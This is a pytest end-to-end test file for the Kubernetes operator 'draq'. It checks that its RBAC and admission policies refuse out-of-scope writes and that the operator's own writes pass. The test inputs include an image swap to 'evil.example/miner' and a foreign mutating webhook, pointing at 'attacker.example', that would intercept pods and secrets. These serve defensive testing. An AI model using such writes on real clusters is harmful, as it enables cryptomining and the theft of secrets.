"""draq's ServiceAccount can do little, and only draq writes what draq decides, on the real control plane.

The chart is rendered with the real Helm binary and its CRDs, ServiceAccount, RBAC and
ValidatingAdmissionPolicies are applied; no draq process runs, so this is also what holds while draq is
down. Requests are made with real tokens:

- as draq's ServiceAccount: a pod outside the managed namespaces cannot be patched nor one in kube-system
  deleted; a managed pod's image cannot be changed; a foreign MutatingWebhookConfiguration cannot be
  created; while draq's own writes (the operator's `Writer`: release with the pin, deleting a member,
  suspending a Job, PodGroup status) and setting its labels pass;
- as a tenant with namespace-admin rights and every right on draq.io: PodGroup status cannot be written
  and draq's labels on an existing pod cannot be changed, while the tenant's other writes pass.

Every refusal is checked for its specific message.
"""

from __future__ import annotations

import asyncio
import json
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client, config

from admission.core.labels import GATE, GROUP_LABEL, MANAGED_LABEL, QUEUE_LABEL
from admission.core.models import ObjectRef
from admission.kube.client import KubeApi, KubeApiError, load_credentials
from admission.localcluster import helm as helm_build
from admission.localcluster.controlplane import ControlPlane
from admission.operator.cache import OperatorCache
from admission.operator.writer import Writer
from e2e.test_chart import RELEASE, Helm, by_kind
from e2e.waiting import until

INSTALLED = ("CustomResourceDefinition", "ServiceAccount", "ClusterRole", "ClusterRoleBinding", "Role", "RoleBinding",
             "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding")
POLICIES = {f"{RELEASE}-{name}" for name in ("podgroup-status", "pod-labels", "token-pods", "token-pod-status",
                                             "token-jobs", "token-webhook-configurations")}


@dataclass(frozen=True)
class Setting:
    draq_namespace: str
    work: str  # managed
    free: str  # not managed
    draq: Any  # kubernetes ApiClient with draq's token
    draq_kubeconfig: Path
    tenant: Any  # kubernetes ApiClient with the tenant's token

    @property
    def user(self) -> str:
        return f"system:serviceaccount:{self.draq_namespace}:draq"


def token_kubeconfig(plane: ControlPlane, account: str, namespace: str, path: Path) -> Path:
    token = plane.kubectl("create", "token", account, "-n", namespace, "--duration=1h").stdout.strip()
    kubeconfig = yaml.safe_load(plane.kubeconfig.read_text())
    kubeconfig["users"] = [{"name": "user", "user": {"token": token}}]
    path.write_text(yaml.safe_dump(kubeconfig))
    path.chmod(0o600)
    return path


def api_client(kubeconfig: Path) -> Any:
    configuration = client.Configuration()
    config.load_kube_config(config_file=str(kubeconfig), client_configuration=configuration)
    return client.ApiClient(configuration)


def apply(plane: ControlPlane, docs: list[dict[str, Any]]) -> None:
    plane.kubectl("apply", "-f", "-", input="\n---\n".join(json.dumps(d) for d in docs))


def refusal(call: Callable[[], Any]) -> str:
    """The message of the 403 the call must be answered with."""
    with pytest.raises(client.ApiException) as raised:
        call()
    assert raised.value.status == 403, raised.value.body
    return str(json.loads(raised.value.body)["message"])


def tenant_rights(work: str) -> list[dict[str, Any]]:
    """A namespace admin (the built-in `admin` role) who is also granted everything of draq.io there."""
    subject = [{"kind": "ServiceAccount", "name": "tenant", "namespace": work}]
    return [
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "tenant", "namespace": work}},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
         "metadata": {"name": "tenant-admin", "namespace": work}, "subjects": subject,
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"}},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
         "metadata": {"name": "tenant-draq", "namespace": work},
         "rules": [{"apiGroups": ["draq.io"], "resources": ["*"], "verbs": ["*"]}]},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
         "metadata": {"name": "tenant-draq", "namespace": work}, "subjects": subject,
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "tenant-draq"}},
    ]


def gated_pod(namespace: str, name: str, labelled: bool = True) -> dict[str, Any]:
    labels = {QUEUE_LABEL: "lq", GROUP_LABEL: name, "app": "trainer"} if labelled else {"app": "trainer"}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": namespace, "labels": labels},
            "spec": {"schedulingGates": [{"name": GATE}, {"name": "example.com/hold"}],
                     "containers": [{"name": "main", "image": "registry.example/cuda:12"}]}}


@pytest.fixture(scope="module")
def setting(control_plane: ControlPlane, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setting]:
    unique = uuid.uuid4().hex[:6]
    draq_namespace, work, free = f"lp-draq-{unique}", f"lp-work-{unique}", f"lp-free-{unique}"
    home = tmp_path_factory.mktemp("least-privilege")
    (home / "helm").mkdir()
    helm = Helm(helm_build.build().binary, home / "helm")
    docs = [d for d in helm.template(namespace=draq_namespace) if d["kind"] in INSTALLED]
    assert {d["metadata"]["name"] for d in by_kind(docs, "ValidatingAdmissionPolicy")} == POLICIES
    for namespace in (draq_namespace, work, free):
        control_plane.kubectl("create", "namespace", namespace)
        control_plane.wait_for_service_account(namespace)
    control_plane.kubectl("label", "namespace", work, f"{MANAGED_LABEL}=true")
    crds = by_kind(docs, "CustomResourceDefinition")
    apply(control_plane, crds)
    control_plane.kubectl("wait", "--for=condition=Established",
                          *(f"crd/{c['metadata']['name']}" for c in crds), "--timeout=60s")
    installed = [d for d in docs if d not in crds]
    apply(control_plane, installed + tenant_rights(work))
    draq_kubeconfig = token_kubeconfig(control_plane, "draq", draq_namespace, home / "draq.kubeconfig")
    tenant_kubeconfig = token_kubeconfig(control_plane, "tenant", work, home / "tenant.kubeconfig")
    try:
        yield Setting(draq_namespace, work, free, api_client(draq_kubeconfig), draq_kubeconfig,
                      api_client(tenant_kubeconfig))
    finally:
        for doc in (*by_kind(installed, "ValidatingAdmissionPolicyBinding"),
                    *by_kind(installed, "ValidatingAdmissionPolicy"), *by_kind(installed, "ClusterRoleBinding"),
                    *by_kind(installed, "ClusterRole")):
            control_plane.kubectl("delete", f"{doc['kind']}/{doc['metadata']['name']}", "--ignore-not-found",
                                  check=False)
        control_plane.kubectl("delete", "namespace", draq_namespace, work, free, "--wait=false", check=False)


@pytest.fixture(scope="module")
def enforced(setting: Setting, api: Any) -> Setting:
    """The API server loads new policies within moments: wait until the first one answers."""
    core = client.CoreV1Api(api)
    core.create_namespaced_pod(setting.work, gated_pod(setting.work, "probe"))
    tenant = client.CoreV1Api(setting.tenant)

    def probe() -> int:
        try:
            tenant.patch_namespaced_pod("probe", setting.work, {"metadata": {"labels": {GROUP_LABEL: "x"}}},
                                        dry_run="All")
        except client.ApiException as err:
            return int(err.status)
        return 200

    until("the admission policies enforced", probe, accept=lambda status: status == 403, timeout=30)
    return setting


def test_draqs_token_cannot_touch_pods_outside_managed_namespaces(enforced: Setting, api: Any) -> None:
    core, draq = client.CoreV1Api(api), client.CoreV1Api(enforced.draq)
    core.create_namespaced_pod(enforced.free, gated_pod(enforced.free, "bystander"))
    message = refusal(lambda: draq.patch_namespaced_pod(
        "bystander", enforced.free, {"spec": {"containers": [{"name": "main", "image": "evil.example/miner"}]}}))
    assert message.endswith(
        f"draq ({enforced.user}) writes pods only in namespaces it manages: namespace {enforced.free} is not managed "
        "by draq (it has neither the label draq.io/managed=true nor draq.io/default-queue)")

    core.create_namespaced_pod("kube-system", gated_pod("kube-system", f"system-{uuid.uuid4().hex[:6]}"))
    victims = core.list_namespaced_pod("kube-system", label_selector="app=trainer").items
    try:
        message = refusal(lambda: draq.delete_namespaced_pod(victims[0].metadata.name, "kube-system"))
        assert "writes pods only in namespaces it manages: namespace kube-system is not managed" in message
    finally:
        for victim in victims:
            core.delete_namespaced_pod(victim.metadata.name, "kube-system", grace_period_seconds=0)
    assert core.read_namespaced_pod("bystander", enforced.free).spec.containers[0].image == "registry.example/cuda:12"


def test_draqs_token_cannot_change_a_managed_pod_beyond_its_release(enforced: Setting, api: Any) -> None:
    client.CoreV1Api(api).create_namespaced_pod(enforced.work, gated_pod(enforced.work, "image"))
    draq = client.CoreV1Api(enforced.draq)
    message = refusal(lambda: draq.patch_namespaced_pod(
        "image", enforced.work, {"spec": {"containers": [{"name": "main", "image": "evil.example/miner"}]}}))
    assert message.endswith(
        f"draq ({enforced.user}) may only remove its gate draq.io/admission from a pod, pin a gated pod to one node "
        f"and set draq.io/ labels and annotations; this write to pod {enforced.work}/image changes spec.containers")
    message = refusal(lambda: draq.patch_namespaced_pod(
        "image", enforced.work, {"metadata": {"labels": {"app": "renamed"}}}))
    assert message.endswith(f"this write to pod {enforced.work}/image changes metadata.labels")
    unlabelled = gated_pod(enforced.work, "not-a-member", labelled=False)
    client.CoreV1Api(api).create_namespaced_pod(enforced.work, unlabelled)
    message = refusal(lambda: draq.delete_namespaced_pod("not-a-member", enforced.work))
    assert message.endswith(f"draq ({enforced.user}) deletes only members of its groups (pods with the label "
                            f"draq.io/pod-group); pod {enforced.work}/not-a-member has none")


def test_draqs_token_cannot_create_a_foreign_webhook_configuration(enforced: Setting, control_plane: ControlPlane
                                                                   ) -> None:
    name = f"foreign-{uuid.uuid4().hex[:6]}"
    body = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
            "metadata": {"name": name},
            "webhooks": [{"name": "everything.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
                          "failurePolicy": "Ignore", "clientConfig": {"url": "https://attacker.example/mutate"},
                          "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
                                     "resources": ["pods", "secrets"]}]}]}
    registration = client.AdmissionregistrationV1Api(enforced.draq)
    try:
        message = refusal(lambda: registration.create_mutating_webhook_configuration(body))
    finally:
        control_plane.kubectl("delete", f"mutatingwebhookconfiguration/{name}", "--ignore-not-found", check=False)
    assert message.endswith(f"draq ({enforced.user}) writes only its own webhook configurations draq-mutating and "
                            f"draq-validating, not {name}")


def test_draqs_own_writes_pass(enforced: Setting, api: Any) -> None:
    """The operator's Writer, as draq's ServiceAccount: release with the pin, labels, status, Job, deletion."""
    core = client.CoreV1Api(api)
    core.create_namespaced_pod(enforced.work, gated_pod(enforced.work, "member"))
    core.create_namespaced_pod(enforced.work, gated_pod(enforced.work, "evicted"))
    client.BatchV1Api(api).create_namespaced_job(enforced.work, {
        "apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "train", "namespace": enforced.work},
        "spec": {"suspend": True, "template": {"spec": {"restartPolicy": "Never", "containers": [
            {"name": "main", "image": "registry.example/cuda:12"}]}}}})

    async def writes() -> tuple[bool, dict[str, Any]]:
        async with KubeApi(load_credentials(enforced.draq_kubeconfig)) as kube:
            writer = Writer(kube, OperatorCache(kube))
            await writer.ensure_pod_group(enforced.work, "member", 1, "lq")
            status = await writer.pod_group_status(enforced.work, "member", {"phase": "Pending"})
            pod = await kube.get(f"/api/v1/namespaces/{enforced.work}/pods/member")
            assert await writer.pod_condition(pod, {"type": "draq.io/Admitted", "status": "False",
                                                    "reason": "QuotaExceeded", "message": "waits"})
            released = await writer.ungate(enforced.work, "member", None, node="node-0")
            assert await writer.suspend(ObjectRef("Job", enforced.work, "train"), False)
            assert await writer.suspend(ObjectRef("Job", enforced.work, "train"), True)
            assert await writer.delete_pod(enforced.work, "evicted")
            return released, status

    try:
        released, status = asyncio.run(writes())
    except KubeApiError as err:
        pytest.fail(f"a write of draq's was refused: {err}")
    assert released and status["status"]["phase"] == "Pending"
    member = core.read_namespaced_pod("member", enforced.work)
    assert [(c.status, c.reason) for c in member.status.conditions or [] if c.type == "draq.io/Admitted"] == [
        ("False", "QuotaExceeded")]
    message = refusal(lambda: client.CoreV1Api(enforced.draq).patch_namespaced_pod_status(
        "member", enforced.work, {"status": {"phase": "Failed"}}))
    assert message.endswith(f"draq ({enforced.user}) may only set its condition draq.io/Admitted in the status of "
                            f"a pod; this write to pod {enforced.work}/member changes status.phase")
    assert [g.name for g in member.spec.scheduling_gates] == ["example.com/hold"]
    [term] = member.spec.affinity.node_affinity.required_during_scheduling_ignored_during_execution.node_selector_terms
    assert [(f.key, f.values) for f in term.match_fields] == [("metadata.name", ["node-0"])]
    client.CoreV1Api(enforced.draq).patch_namespaced_pod("member", enforced.work, {"metadata": {
        "labels": {GROUP_LABEL: "renamed"}, "annotations": {"draq.io/run-time": "60"}}})
    assert core.read_namespaced_pod("member", enforced.work).metadata.labels[GROUP_LABEL] == "renamed"


def test_a_tenant_cannot_write_draqs_records(enforced: Setting, api: Any) -> None:
    objects, tenant = client.CustomObjectsApi(enforced.tenant), client.CoreV1Api(enforced.tenant)
    objects.create_namespaced_custom_object("draq.io", "v1alpha1", enforced.work, "podgroups", {
        "apiVersion": "draq.io/v1alpha1", "kind": "PodGroup", "metadata": {"name": "forged"},
        "spec": {"minMember": 1, "queue": "lq"}})
    message = refusal(lambda: objects.patch_namespaced_custom_object_status(
        "draq.io", "v1alpha1", enforced.work, "podgroups", "forged",
        {"status": {"phase": "Admitted", "clusterQueue": "main", "charge": [{"unit": "gpus", "amount": "0"}]}}))
    assert message.endswith(f"only draq ({enforced.user}) writes PodGroup status: its phase, charge and plan are "
                            "draq's admission record")

    tenant.create_namespaced_pod(enforced.work, gated_pod(enforced.work, "tenants"))  # labelled at creation
    message = refusal(lambda: tenant.patch_namespaced_pod(
        "tenants", enforced.work, {"metadata": {"labels": {GROUP_LABEL: "someone-elses"}}}))
    assert message.endswith(
        f"only draq ({enforced.user}) changes the draq.io/ labels and annotations of an existing pod (here: label "
        f"{GROUP_LABEL}); set them when the pod is created, or delete the pod and create it again")
    message = refusal(lambda: tenant.patch_namespaced_pod(
        "tenants", enforced.work, {"metadata": {"labels": {QUEUE_LABEL: None}, "annotations": {"draq.io/x": "1"}}}))
    assert f"(here: label {QUEUE_LABEL}, annotation draq.io/x)" in message
    tenant.patch_namespaced_pod("tenants", enforced.work, {"metadata": {"labels": {"app": "mine"}}})
    assert tenant.read_namespaced_pod("tenants", enforced.work).metadata.labels[GROUP_LABEL] == "tenants"
